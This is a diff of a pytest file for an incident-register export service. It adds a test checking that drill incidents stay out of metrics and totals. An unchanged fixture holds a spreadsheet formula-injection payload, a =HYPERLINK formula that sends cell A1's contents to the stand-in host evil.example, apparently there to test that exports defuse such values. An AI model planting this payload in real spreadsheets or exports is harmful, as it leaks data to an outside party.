@@ -11,7 +11,7 @@ import pytest
 from openpyxl import load_workbook
 
 from incident_app.services.container import Services
-from incident_app.services.register_export import build_register, export_register
+from incident_app.services.register_export import build_register, export_register, register_metrics
 
 EVIL = {
     "title": '=HYPERLINK("http://evil.example/?"&A1,"详情")',
@@ -129,3 +129,19 @@ def test_every_export_is_logged_with_where_it_went(
 def test_unknown_format_is_refused(services: Services) -> None:
     with pytest.raises(ValueError, match="pdf"):
         export_register(services, None, "pdf")
+
+
+def test_drill_activity_never_reaches_metrics_or_totals(services: Services, intake: dict[str, object]) -> None:
+    services.incidents.create(intake | {"cause": "attack"})
+    drill = services.incidents.create(intake | {"title": "drill", "drill": True, "cause": "malware"})
+    record_event(services, "obligation.met", drill.id, {"obligation_id": "cac", "recipient": "regulator",
+                                                        "due": "2026-11-20T10:00:00+08:00"})
+    record_event(services, "notice.sent", drill.id, {"recipient": "individuals", "channel": "email", "count": 50})
+    data = build_register(services)
+    assert data.metrics.discovery_to_regulator_report.count == 0
+    assert data.metrics.discovery_to_individual_notice.count == 0
+    assert data.metrics.obligations_decided == 0 and data.metrics.on_time_share is None
+    assert dict(data.metrics.causes)["malware"] == 0 and dict(data.metrics.causes)["attack"] == 1
+    assert data.totals["notified_email"] == 0 and data.totals["obligations_total"] == 0
+    assert data.records[1]["notified_email"] == 50  # the drill's own row still shows what it did
+    assert register_metrics(services) == data.metrics
